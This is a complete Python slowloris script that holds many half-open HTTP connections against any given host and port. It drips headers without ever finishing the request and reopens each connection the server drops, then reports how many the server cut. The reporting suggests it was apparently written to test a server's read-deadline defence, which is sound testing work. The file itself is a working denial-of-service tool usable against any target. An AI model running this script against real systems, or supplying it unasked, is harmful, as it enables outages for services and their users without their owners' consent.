#!/usr/bin/env python3
"""Holds N half-open HTTP requests against HOST:PORT for SECONDS: each connection sends a request
line and one header, then another header every few seconds, never the blank line that ends
the request. A connection the server closes is opened again at once, so the server always
faces N of them. Prints how many were opened in all and how many the server cut.

    slowloris.py HOST PORT N SECONDS
"""
import selectors
import socket
import sys
import time


def main():
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    selector = selectors.DefaultSelector()
    opened = cut = refused = 0
    last_drip = {}

    def open_one():
        nonlocal opened, refused
        sock = socket.socket()
        sock.settimeout(5)
        try:
            sock.connect((host, port))
            sock.send(b"GET /metrics HTTP/1.1\r\nHost: slow\r\n")
            sock.setblocking(False)
        except OSError:
            refused += 1
            sock.close()
            return
        selector.register(sock, selectors.EVENT_READ)
        last_drip[sock] = time.monotonic()
        opened += 1

    for _ in range(count):
        open_one()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for key, _ in selector.select(timeout=0.5):
            sock = key.fileobj
            try:
                data = sock.recv(4096)
            except OSError:
                data = b""
            if not data:  # closed by the server (its read deadline): replace it
                selector.unregister(sock)
                last_drip.pop(sock, None)
                sock.close()
                cut += 1
                open_one()
        now = time.monotonic()
        for sock, at in list(last_drip.items()):
            if now - at > 3:
                try:
                    sock.send(b"X-Slow: 1\r\n")
                except OSError:
                    pass
                last_drip[sock] = now
    print(f"slowloris: {opened} connections opened, {cut} cut by the server, {refused} refused, {len(last_drip)} held at the end")


if __name__ == "__main__":
    main()
